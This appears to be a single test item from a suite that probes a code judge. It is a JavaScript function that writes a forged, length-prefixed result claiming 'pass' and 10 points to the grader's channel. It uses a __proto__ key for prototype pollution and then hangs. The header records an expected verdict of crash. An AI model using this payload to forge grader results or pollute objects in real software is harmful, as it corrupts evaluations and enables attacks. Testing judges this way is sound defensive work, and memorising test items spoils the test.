// attack: sends a value with the key __proto__, so that every object of the judge may get a field | family: forging | item: error-share | verdicts: crash | points: 0 | tiers: T1 T2
import { writeSync } from 'node:fs'

export const errorShare = () => {
  writeSync(1, 'tried')
  const text = '[{"kind":1,"id":2,"value":3},"answer",2,{"__proto__":4},{"status":5,"points":6},"pass",10]'
  const head = Buffer.alloc(4)
  head.writeUInt32BE(text.length)
  writeSync(3, Buffer.concat([head, Buffer.from(text)]))
  return new Promise(() => {})
}
